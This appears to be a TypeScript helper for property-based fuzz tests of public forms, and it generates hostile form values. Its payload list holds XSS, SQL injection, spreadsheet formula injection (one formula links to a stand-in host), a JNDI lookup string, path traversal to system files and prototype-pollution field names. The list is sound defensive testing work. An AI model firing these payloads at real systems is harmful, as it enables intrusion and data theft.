/**
 * Generators of hostile input for the property-based tests of public forms and imports: what
 * bots, careless exports and attackers send. Each generator mixes hostile values with valid ones,
 * so a run can also get past validation and reach the database.
 */
import fc from "fast-check";
import { isMessageKey } from "../../app/modules/i18n/translate";

/** Values chosen by hand: injections, control and invisible characters, things that look like numbers. */
export const NASTY_VALUES = [
  "",
  " ",
  "\u0000",
  "a\u0000b",
  "\u202eevil\u202c",
  "\u200b\u200c\u200d\u2060",
  "\ufeff",
  "\r\n\r\n",
  "\t",
  "%00",
  "%0d%0aSet-Cookie: x=1",
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  '"><svg onload=alert(1)>',
  "javascript:alert(1)",
  "' OR 1=1; --",
  '\'; DROP TABLE "Person"; --',
  '" OR ""="',
  '=HYPERLINK("http://jahat.example","klik")',
  "=cmd|' /C calc'!A0",
  "+60123456789",
  "@SUM(1+1)",
  "-1+1",
  "../../etc/passwd",
  "..\\..\\windows\\win.ini",
  "${jndi:ldap://jahat.example/a}",
  "{{7*7}}",
  "__proto__",
  "constructor",
  "toString",
  "NaN",
  "Infinity",
  "-0",
  "1e309",
  "9".repeat(400),
  "null",
  "undefined",
  "true",
  "[object Object]",
  "👩‍🏫👨‍👩‍👧‍👦🏳️‍🌈",
  "ZA̡͊͠͝LGΌ",
  "مرحبا بالعالم",
  "你好，世界",
  "வணக்கம்",
  "\ud800",
  "\udfff",
] as const;

const huge = fc
  .tuple(fc.constantFrom("a", "é", "👩‍🏫", "\u0000", "<", "=", " ", "9"), fc.integer({ min: 200, max: 120_000 }))
  .map(([unit, n]) => unit.repeat(n));

/** Any string an attacker or a broken client could send as one form value. */
export const hostileString: fc.Arbitrary<string> = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...NASTY_VALUES) },
  { weight: 3, arbitrary: fc.string({ unit: "binary", maxLength: 60 }) },
  { weight: 2, arbitrary: fc.string({ unit: "grapheme", maxLength: 200 }) },
  { weight: 2, arbitrary: fc.array(fc.constantFrom(...NASTY_VALUES), { minLength: 2, maxLength: 5 }).map((parts) => parts.join("")) },
  { weight: 1, arbitrary: huge },
);

/** A string that, wherever it came from, fits in a URL path segment (as the router would pass it). */
export const hostileParam: fc.Arbitrary<string> = fc.oneof(
  hostileString.map((s) => s.slice(0, 5000)),
  fc.stringMatching(/^[A-Za-z0-9_-]{1,80}$/),
);

export type FormValue = string | string[] | File | undefined;

/**
 * One field's value: usually `valid` or a hostile string, sometimes missing, repeated, or a file
 * where text was expected (the wrong type a multipart form can carry).
 */
export function hostileField(valid: fc.Arbitrary<string>): fc.Arbitrary<FormValue> {
  return fc.oneof(
    // Mostly valid, so a run often fails on one field alone and sometimes passes to the database.
    { weight: 30, arbitrary: valid },
    { weight: 5, arbitrary: hostileString },
    { weight: 1, arbitrary: fc.constant(undefined) },
    { weight: 1, arbitrary: fc.array(fc.oneof(valid, hostileString), { minLength: 2, maxLength: 4 }) },
    { weight: 1, arbitrary: hostileString.map((s) => new File([s.slice(0, 2000) || "x"], "nama.txt", { type: "text/plain" })) },
  );
}

/** Names a form does not expect, including ones that break naive object handling. */
const strayFieldName = fc.oneof(
  fc.constantFrom(
    "__proto__",
    "__proto__.polluted",
    "__proto__[polluted]",
    "constructor.prototype.polluted",
    "constructor",
    "prototype",
    "_action",
    "id",
    "status",
    "fields[0]",
    "a.b",
    "",
  ),
  fc.string({ maxLength: 20 }),
);

/** Whether a form parser let a field name reach Object.prototype. */
export function prototypePolluted(): boolean {
  return "polluted" in {};
}

/** A whole form: each known field through `hostileField`, plus stray fields now and then. */
export function hostileForm(fields: Record<string, fc.Arbitrary<string>>): fc.Arbitrary<Record<string, FormValue>[]> {
  const known = fc.record(Object.fromEntries(Object.entries(fields).map(([name, valid]) => [name, hostileField(valid)])));
  const stray = fc.array(fc.tuple(strayFieldName, hostileString), { maxLength: 3 });
  return fc.tuple(known, stray).map(([values, extra]) => [values, Object.fromEntries(extra)]);
}

export function toFormData(parts: Record<string, FormValue>[]): FormData {
  const form = new FormData();
  for (const values of parts) {
    for (const [name, value] of Object.entries(values)) {
      if (value === undefined) continue;
      for (const v of Array.isArray(value) ? value : [value]) form.append(name, v);
    }
  }
  return form;
}

/** Whether a form value is exactly one piece of text (not missing, not repeated, not a file). */
export function isSingleText(value: FormValue): value is string {
  return typeof value === "string";
}

/** Valid-looking values, so some runs pass validation. */
export const validPhone = fc.tuple(fc.constantFrom("2", "3", "6", "7", "9"), fc.noBias(fc.integer({ min: 0, max: 9_999_999 }))).map(
  ([prefix, n]) =>
    `01${prefix}-${String(n)
      .padStart(7, "0")
      .replace(/^(\d{3})/, "$1 ")}`,
);
export const validName = fc.oneof(
  fc.constantFrom(
    "Cikgu Rohaya binti Ismail",
    "Encik Lim Boon Hock",
    "Puan Devi a/p Raman",
    "Siti Nur 'Aisyah",
    "O'Neil Tan",
    "Nurul 👩‍🏫 Huda",
  ),
  fc.string({ unit: "grapheme-ascii", minLength: 2, maxLength: 60 }),
);
export const validEmail = fc.noBias(fc.integer({ min: 0, max: 1_000_000 })).map((n) => `peserta${n}@contoh.my`);

/**
 * Every message a failed submission carries must be a catalogue key (with optional parameters),
 * so it shows translated beside the field; returns the ones that are not.
 */
export function untranslatableMessages(errors: Record<string, unknown> | null | undefined): string[] {
  const bad: string[] = [];
  for (const [field, messages] of Object.entries(errors ?? {})) {
    for (const message of Array.isArray(messages) ? messages : [messages]) {
      const key = String(message).split("|")[0];
      if (!isMessageKey(key)) bad.push(`${field || "(form)"}: ${String(message)}`);
    }
  }
  return bad;
}

/** A property of 1,000 runs needs more than the default test timeout on a busy two-core machine. */
export const FUZZ_TIMEOUT = 180_000;

/** Same fast-check settings everywhere: 1,000 runs, reproducible with FC_SEED. */
export const FUZZ_RUNS = { numRuns: 1000, ...(process.env.FC_SEED ? { seed: Number(process.env.FC_SEED) } : {}) };
